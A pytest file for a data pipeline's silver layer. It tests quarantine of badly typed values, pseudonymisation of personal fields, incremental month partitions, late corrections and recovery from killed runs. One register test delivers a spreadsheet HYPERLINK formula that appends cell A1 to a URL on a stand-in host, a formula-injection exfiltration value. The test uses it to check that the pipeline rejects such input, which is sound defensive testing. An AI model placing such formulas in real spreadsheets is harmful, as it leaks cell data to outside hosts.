"""Silver on literal deliveries: typing quarantine, pseudonyms, incremental periods, late corrections."""

from pathlib import Path

import pytest

from workbench.config import load_settings
from workbench.linkage.identifiers import make_credit_code
from workbench.pipeline import run_jobs
from workbench.pseudonym import pseudonym

KEY = "test-key-0123456789abcdef"


A, B = make_credit_code("91440101", "MA5C0001"), make_credit_code("91440101", "MA5C0002")
SURVEY_HEADER = "统一社会信用代码,报告期,营业收入(万元),从业人员期末人数,填表人,联系电话,报送时间"


def deliver(root: Path, rel: str, text: str) -> None:
    path = root / "deliveries" / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


@pytest.fixture()
def env(tmp_path, lake, monkeypatch):
    monkeypatch.setenv("WORKBENCH_DEMO_OUT", str(tmp_path / "demo"))
    monkeypatch.setenv("WORKBENCH_LAKE_ROOT", lake.root)
    monkeypatch.setenv("WORKBENCH_PSEUDONYM_KEY", KEY)
    return tmp_path / "demo", lake, load_settings()


def run(lake, settings, *names):
    results = run_jobs(list(names), lake=lake, settings=settings)
    for r in results:
        assert r.status != "failed", r.message
    return results


def test_survey_typed_pseudonymised_and_bad_values_quarantined(env):
    out, lake, settings = env
    deliver(out, "survey/survey_2024-01.csv",
            f"{SURVEY_HEADER}\n{A},2024-01,12.5,30,张三,13800000000,2024-02-05 10:00:00\n"
            f"{B},2024-01,abc,31,李四,13900000000,2024-02-05 11:00:00\n"
            f"{B[:17]}0,202401,3,,王五,,\n")
    _, silver = run(lake, settings, "bronze_survey", "silver_survey_returns")
    assert (silver.rows_read, silver.rows_written, silver.rows_quarantined) == (3, 1, 2)
    row = lake.read("silver.survey_returns").collect()[0]
    assert row["revenue"] == 125000 and row["employment"] == 30
    assert str(row["period"]) == "2024-01-01" and row["credit_code_valid"] is True
    assert row["respondent_name_pseudonym"] == pseudonym("张三", KEY.encode())
    columns = lake.read("silver.survey_returns").columns
    assert "respondent_name" not in columns and "respondent_phone" not in columns
    reasons = sorted(r["reason"] for r in lake.read("quarantine.survey").filter("stage = 'silver'").collect())
    assert "row 3" in reasons[0] and "营业收入(万元)" in reasons[0] and "'abc' is not a valid double" in reasons[0]
    assert "row 4" in reasons[1] and "从业人员期末人数" in reasons[1] and "is empty" in reasons[1]


def test_new_month_overwrites_its_partition_and_late_correction_is_merged(env):
    out, lake, settings = env
    deliver(out, "survey/survey_2024-01.csv", f"{SURVEY_HEADER}\n{A},2024-01,10,30,,,\n{B},2024-01,20,40,,,\n")
    run(lake, settings, "bronze_survey", "silver_survey_returns")
    deliver(out, "survey/survey_2024-02.csv", f"{SURVEY_HEADER}\n{A},2024-02,11,30,,,\n")
    deliver(out, "survey/survey_2024-01_correction.csv", f"{SURVEY_HEADER}\n{B},2024-01,22,41,,,\n")
    run(lake, settings, "bronze_survey", "silver_survey_returns")
    got = {(r["credit_code"], str(r["period"])): (float(r["revenue"]), r["employment"])
           for r in lake.read("silver.survey_returns").collect()}
    assert got == {(A, "2024-01-01"): (100000.0, 30), (B, "2024-01-01"): (220000.0, 41),
                   (A, "2024-02-01"): (110000.0, 30)}
    operations = [h["operation"] for h in lake.history("silver.survey_returns")]
    assert "MERGE" in operations
    # idempotent: a third run finds nothing new and changes nothing
    version = lake.version("silver.survey_returns")
    _, again = run(lake, settings, "bronze_survey", "silver_survey_returns")
    assert again.status == "skipped" and lake.version("silver.survey_returns") == version
    assert lake.row_count("silver.survey_returns") == 3


def test_credit_code_check_in_spark_agrees_with_python(spark, demo_small):
    import numpy as np
    import pandas as pd
    from pyspark.sql import functions as F

    from workbench.linkage.identifiers import credit_code_valid, is_valid_credit_code

    truth = pd.read_parquet(f"{demo_small['out']}/truth/enterprises.parquet", columns=["credit_code"])
    codes = truth["credit_code"].head(400).tolist()
    rng = np.random.default_rng(3)
    # one wrong character anywhere, lower case, short, foreign letters: each must be refused
    broken = [c[:i] + ("0" if c[i] != "0" else "1") + c[i + 1:] for c in codes[:200] for i in [int(rng.integers(18))]]
    odd = ["", "abc", codes[0][:17], codes[0] + "1", codes[0][:17] + "I", None]
    sample = codes + broken + odd
    got = spark.createDataFrame(pd.DataFrame({"c": sample})).select(credit_code_valid(F.col("c")).alias("ok"))
    assert [r["ok"] for r in got.collect()] == [is_valid_credit_code(c) for c in sample]
    assert all(is_valid_credit_code(c) for c in codes) and not any(is_valid_credit_code(c) for c in broken)


def test_pseudonyms_are_stable_per_key_and_differ_across_keys(spark):
    import pandas as pd
    from pyspark.sql import functions as F

    from workbench.pseudonym import pseudonym, pseudonym_col

    values = ["张三", "110101199003074514", " 13800000000 ", None, ""]
    df = spark.createDataFrame(pd.DataFrame({"v": values}))
    first = [r["p"] for r in df.select(pseudonym_col(F.col("v"), b"key-one-0123456789").alias("p")).collect()]
    again = [r["p"] for r in df.select(pseudonym_col(F.col("v"), b"key-one-0123456789").alias("p")).collect()]
    other = [r["p"] for r in df.select(pseudonym_col(F.col("v"), b"key-two-0123456789").alias("p")).collect()]
    assert first == again == [pseudonym(v, b"key-one-0123456789") for v in values]
    assert first[3] is None and first[4] is None
    assert all(a != b for a, b in zip(first[:3], other[:3]))
    assert first[2] == pseudonym("13800000000", b"key-one-0123456789")  # spaces do not change the pseudonym


def test_a_quote_belongs_to_the_citys_calendar_day_not_the_utc_day(spark):
    from jobs.silver_other import derive_prices

    scrapes = spark.sql("SELECT timestamp'2021-01-01 05:57:05+08:00' AS scraped_at "
                        "UNION ALL SELECT timestamp'2021-01-31 23:30:00+08:00'")
    got = derive_prices(scrapes, "Asia/Shanghai").orderBy("scraped_at").toPandas()
    # 05:57 Beijing on 1 January is 21:57 UTC on 31 December: still a January quote
    assert [str(d) for d in got["price_date"]] == ["2021-01-01", "2021-01-31"]
    assert [str(m) for m in got["month"]] == ["2021-01-01", "2021-01-01"]


def test_non_finite_prices_are_quarantined_with_the_field_named(env):
    """'1e999' (and inf, NaN) cast to a double, but no price is infinite: before, 1e999
    reached silver.prices_daily as inf."""
    import json

    out, lake, settings = env
    quote = {"scraped_at": "2024-01-05T10:00:00+08:00", "retailer": "r1", "product_name": "米"}
    lines = [json.dumps({**quote, "product_id": "p1", "price": 12.5}),
             '{"scraped_at": "2024-01-05T10:00:00+08:00", "retailer": "r1", "product_name": "米", '
             '"product_id": "p2", "price": 1e999}',
             json.dumps({**quote, "product_id": "p3", "price": "NaN"}),
             json.dumps({**quote, "product_id": "p4", "price": "-Infinity", "list_price": 3})]
    deliver(out, "prices/prices_2024-01.jsonl", "\n".join(lines) + "\n")
    run(lake, settings, "bronze_prices", "silver_prices_daily")
    silver = lake.read("silver.prices_daily").toPandas()
    assert silver["product_id"].tolist() == ["p1"] and silver["price"].tolist() == [12.5]
    bad = lake.read("quarantine.prices").filter("stage = 'silver'").orderBy("_row_number").toPandas()
    assert bad["_row_number"].tolist() == [2, 3, 4]
    assert all("field price (price):" in r and "is not a finite number" in r for r in bad["reason"]), \
        bad["reason"].tolist()
    assert "prices/prices_2024-01.jsonl row 2" in bad["reason"][0]


REGISTER_HEADER = ("统一社会信用代码,企业名称,住所,乡镇街道代码,行业代码,企业类型,企业规模,成立日期,注销日期,"
                   "法定代表人,法定代表人证件号码,联系电话")
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"详情")'


def test_a_code_outside_its_code_list_is_quarantined_and_the_good_row_lands(env):
    """A register township code is a code of the catalogue's township list: a spreadsheet
    formula delivered in its place used to travel to gold and into released files."""
    out, lake, settings = env
    text = (f"{REGISTER_HEADER}\n"
            f"{A},甲公司,中山区某路1号,660102001,5213,有限责任公司,小型,2010-01-01,,张三,110101199001011234,13800000000\n"
            f'{B},乙公司,中山区某路2号,"{FORMULA.replace(chr(34), chr(34) * 2)}",5213,有限责任公司,小型,2011-01-01,,'
            f"李四,110101199001015678,13900000000\n")
    path = out / "deliveries" / "register" / "register_2024-01.csv"
    path.parent.mkdir(parents=True)
    path.write_bytes(text.encode("gbk"))
    _, silver = run(lake, settings, "bronze_register", "silver_enterprises")
    assert (silver.rows_read, silver.rows_written, silver.rows_quarantined) == (2, 1, 1)
    kept = lake.read("silver.enterprises").toPandas()
    assert kept["credit_code"].tolist() == [A] and kept["township_code"].tolist() == ["660102001"]
    [reason] = [r["reason"] for r in lake.read("quarantine.register").filter("stage = 'silver'").collect()]
    assert reason.startswith("register/register_2024-01.csv row 3: field 乡镇街道代码 (township_code): "), reason
    assert reason.endswith("is not a code of the township_code code list"), reason
    from workbench.quarantine import cause_of

    cause = cause_of(reason)
    assert (cause.code, cause.field, cause.expected) == ("not_in_codelist", "township_code", "township_code")


def test_a_personal_field_that_fails_typing_is_named_without_its_value(spark):
    """Issue 28, 3: typing reasons quote the value; for a personal field they must not. No
    delivered personal field is typed today, so a register whose contract also counts the
    founding date as personal stands in for one that does."""
    import dataclasses

    from workbench.quarantine import cause_of
    from workbench.sources.contract import contract
    from workbench.sources.typing import raw_text, split_valid, type_columns

    register = contract("register")
    register = dataclasses.replace(register, personal=(*register.personal, "birth_date"))
    lineage = {"_source": "register", "_file_path": "register/r.csv", "_file_sha256": "ab" * 32, "_row_number": "2",
               "_delivery_period": "2024-01", "_loaded_at": "2024-01-02 00:00:00", "_job_run_id": "run1"}
    row = {**{c: None for c in register.column_names}, "credit_code": A, "name": "甲",
           "birth_date": "1990-13-45 张伟", **lineage}
    bronze = spark.createDataFrame([row], ", ".join(f"{c} string" for c in row))
    _, bad = split_valid(type_columns(bronze, register), raw_text(bronze, register))
    [reason] = [r["reason"] for r in bad.collect()]
    assert reason == ("register/r.csv row 2: field 成立日期 (birth_date): the value (personal, not shown) "
                      "is not a valid date")
    assert cause_of(reason).code == "invalid_value" and cause_of(reason).field == "birth_date"


SILVER_CHILD = """
import sys
from workbench.pipeline import run_jobs

if __name__ == "__main__":
    for result in run_jobs(["silver_survey_returns"]):
        print(result.status, result.message)
"""


def killed_at(lake, point: str, **environ: str) -> None:
    """Run the survey's silver job in a child process that SIGKILLs itself at *point*."""
    import os
    import subprocess
    import sys

    from workbench.faults import KILL_AT_ENV, SILVER_POINTS

    assert point in SILVER_POINTS
    repo = Path(__file__).resolve().parents[1]
    script = Path(lake.root).parent / "silver_child.py"
    script.write_text(SILVER_CHILD)
    child_env = {**{k: v for k, v in os.environ.items() if not k.startswith("SPARK_")},
                 KILL_AT_ENV: point, "PYTHONPATH": str(repo), "RUST_LOG": "error", **environ}
    done = subprocess.run([sys.executable, str(script)], cwd=repo, env=child_env,
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == -9, done.stderr[-2000:]


def test_a_silver_job_killed_after_typing_leaves_no_clear_value_and_the_next_run_builds_once(env):
    """The typed rows are kept once in a scratch folder: a SIGKILL there leaves the copy behind
    (pseudonymised: no clear name or phone outside bronze), the watermark unmoved, and the next
    run removes the copy and writes every row once."""
    import pyarrow.parquet as pq

    from workbench.lake import SCRATCH_FOLDER

    out, lake, settings = env
    deliver(out, "survey/survey_2024-01.csv",
            f"{SURVEY_HEADER}\n{A},2024-01,12.5,30,张三,13800000000,2024-02-05 10:00:00\n"
            f"{B},2024-01,abc,31,李四,13900000000,2024-02-05 11:00:00\n")
    run(lake, settings, "bronze_survey")
    killed_at(lake, "silver.typed_kept")

    left = Path(lake.root) / SCRATCH_FOLDER / "silver_survey_returns" / "typed"
    kept = pq.read_table(left)
    assert kept.num_rows == 2
    text = " ".join(str(v) for column in kept.columns for v in column.to_pylist())
    # neither the row that passes nor the one that fails shows a name or a phone number
    for clear in ("张三", "13800000000", "李四", "13900000000"):
        assert clear not in text
    assert {"respondent_name_pseudonym", "respondent_phone_pseudonym"} <= set(kept.column_names)
    assert not lake.exists("silver.survey_returns") and not lake.exists("quarantine.survey")

    (silver,) = run(lake, settings, "silver_survey_returns")
    assert (silver.rows_read, silver.rows_written, silver.rows_quarantined) == (2, 1, 1)
    assert lake.row_count("silver.survey_returns") == 1 and lake.row_count("quarantine.survey") == 1
    # quarantine keeps the failure's raw text, as delivered (it is bronze's to hold)
    (held,) = lake.read("quarantine.survey").collect()
    assert "李四" in held["raw_text"] and "'abc' is not a valid double" in held["reason"]
    assert not (Path(lake.root) / SCRATCH_FOLDER / "silver_survey_returns").exists()


def test_periods_are_grouped_into_commits_of_bounded_rows():
    from datetime import date

    from jobs.silver import period_groups

    months = {date(2024, m, 1): n for m, n in zip(range(1, 7), (3, 1, 2, 7, 1, 1))}
    assert period_groups(months, 4) == [[date(2024, 1, 1), date(2024, 2, 1)], [date(2024, 3, 1)],
                                        [date(2024, 4, 1)], [date(2024, 5, 1), date(2024, 6, 1)]]
    assert period_groups(months, 100) == [sorted(months)]
    assert period_groups(months, 1) == [[p] for p in sorted(months)]
    assert period_groups({}, 5) == []


def _survey_months(out, months=("2024-01", "2024-02", "2024-03", "2024-04")):
    for i, month in enumerate(months):
        deliver(out, f"survey/survey_{month}.csv",
                f"{SURVEY_HEADER}\n{A},{month},{10 + i},30,,,\n{B},{month},{20 + i},40,,,\n")


def _survey_content(lake):
    return sorted((r["credit_code"], str(r["period"]), float(r["revenue"]), r["employment"])
                  for r in lake.read("silver.survey_returns").collect())


def test_a_first_build_writes_its_months_in_commits_of_bounded_rows(env):
    """Four months of two rows with [silver].rows_per_write = 4: two commits of two months each,
    holding the same rows one commit would."""
    from dataclasses import replace

    from workbench.config import SilverSettings

    out, lake, settings = env
    _survey_months(out)
    _, silver = run(lake, replace(settings, silver=SilverSettings(rows_per_write=4)),
                    "bronze_survey", "silver_survey_returns")
    assert silver.rows_written == 8
    writes = [h for h in lake.history("silver.survey_returns") if h["operation"] == "WRITE"]
    assert len(writes) == 2, [(h["operation"], h.get("operationParameters", {}).get("mode")) for h in writes]
    assert _survey_content(lake) == sorted(
        (code, f"2024-{m:02d}-01", (base + m - 1) * 10000.0, staff)
        for m in range(1, 5) for code, base, staff in ((A, 10, 30), (B, 20, 40)))


def test_a_first_build_killed_between_commits_is_finished_once_by_the_next_run(env):
    """SIGKILL after the first of four one-month commits: the table holds whole months only, the
    watermark has not moved, and the next run writes the rest and duplicates nothing."""
    out, lake, settings = env
    _survey_months(out)
    run(lake, settings, "bronze_survey")
    killed_at(lake, "silver.group_written", WORKBENCH_SILVER_ROWS_PER_WRITE="2")
    assert [str(p) for p in sorted({r["period"] for r in lake.read("silver.survey_returns").collect()})] \
        == ["2024-01-01"]
    assert lake.row_count("silver.survey_returns") == 2

    (silver,) = run(lake, settings, "silver_survey_returns")
    assert silver.rows_read == 8
    assert _survey_content(lake) == sorted(
        (code, f"2024-{m:02d}-01", (base + m - 1) * 10000.0, staff)
        for m in range(1, 5) for code, base, staff in ((A, 10, 30), (B, 20, 40)))
    _, again = run(lake, settings, "bronze_survey", "silver_survey_returns")
    assert again.status == "skipped" and lake.row_count("silver.survey_returns") == 8


def test_scratch_keeps_a_result_once_reads_an_empty_one_and_is_removed(spark, lake):
    from pyspark.sql import functions as F

    from workbench.lake import SCRATCH_FOLDER, LakeError

    folder = Path(lake.root) / SCRATCH_FOLDER / "some_job"
    (folder / "stale").mkdir(parents=True)  # what a killed run left
    with lake.scratch("some_job") as scratch:
        assert not (folder / "stale").exists()
        numbers = scratch.keep(spark.range(10).withColumn("twice", F.col("id") * 2), "numbers")
        assert sorted(r["twice"] for r in numbers.collect()) == list(range(0, 20, 2))
        none = scratch.keep(numbers.filter("id < 0"), "none")
        assert none.count() == 0 and none.columns == ["id", "twice"]
        with pytest.raises(LakeError):
            scratch.keep(numbers, "numbers")  # one label, one result
        with pytest.raises(LakeError):
            scratch.keep(numbers, "../elsewhere")
        assert not any(SCRATCH_FOLDER in name for name in lake.table_names())  # never listed as a table
    assert not folder.exists()
    with pytest.raises(LakeError):
        with lake.scratch("../other"):
            pass


def test_ranking_only_the_duplicated_keys_keeps_the_same_rows_as_ranking_all(spark):
    """A key held once is its own latest row, so ranking only the keys held more than once
    (nulls included, as a window groups them) gives what ranking every row gives."""
    from datetime import datetime

    from pyspark.sql import functions as F

    from workbench.sources.typing import duplicated_keys, latest_per_key

    at = [datetime(2024, 1, d) for d in (1, 2, 3)]
    rows = [("a", "2024-01", 1, at[0], "f1", 2), ("a", "2024-01", 2, at[1], "f2", 2),  # corrected later
            ("b", "2024-01", 3, at[0], "f1", 3),                                      # once
            (None, "2024-01", 4, at[0], "f1", 4), (None, "2024-01", 5, at[2], "f3", 4),  # a null key, twice
            ("c", None, 6, at[0], "f1", 5), ("c", None, 7, at[0], "f1", 6)]            # same file, later row
    df = spark.createDataFrame(rows, "code string, period string, value int, _loaded_at timestamp, "
                                     "_file_path string, _row_number int").withColumn("_delivery_period",
                                                                                      F.lit(None).cast("string"))
    keys = ["code", "period"]
    duplicated = [r[0] for r in duplicated_keys(df, keys).collect()]
    assert len(duplicated) == 3
    every = sorted(r["value"] for r in latest_per_key(df, keys).collect())
    assert every == [2, 3, 5, 7]
    assert sorted(r["value"] for r in latest_per_key(df, keys, duplicated).collect()) == every
    assert latest_per_key(df.filter("value = 3"), keys, []).count() == 1  # nothing duplicated: nothing ranked



@pytest.mark.parametrize("duplicated_limit", [50_000, 0])
def test_a_key_delivered_twice_in_one_run_keeps_its_latest_row(env, monkeypatch, duplicated_limit):
    """A resend for the same month lands beside the first file: silver keeps one row per key, the
    resend's, whether only the duplicated keys are ranked or (past the limit) every row."""
    import jobs.silver

    monkeypatch.setattr(jobs.silver, "MAX_DUPLICATED_KEYS", duplicated_limit)
    out, lake, settings = env
    deliver(out, "survey/survey_2024-01.csv", f"{SURVEY_HEADER}\n{A},2024-01,10,30,,,\n{B},2024-01,20,40,,,\n")
    deliver(out, "survey/survey_2024-01_resend.csv", f"{SURVEY_HEADER}\n{A},2024-01,12,31,,,\n")
    _, silver = run(lake, settings, "bronze_survey", "silver_survey_returns")
    got = {r["credit_code"]: (float(r["revenue"]), r["employment"]) for r in lake.read("silver.survey_returns").collect()}
    assert got == {A: (120000.0, 31), B: (200000.0, 40)}
    assert (silver.rows_read, silver.rows_written) == (3, 2)
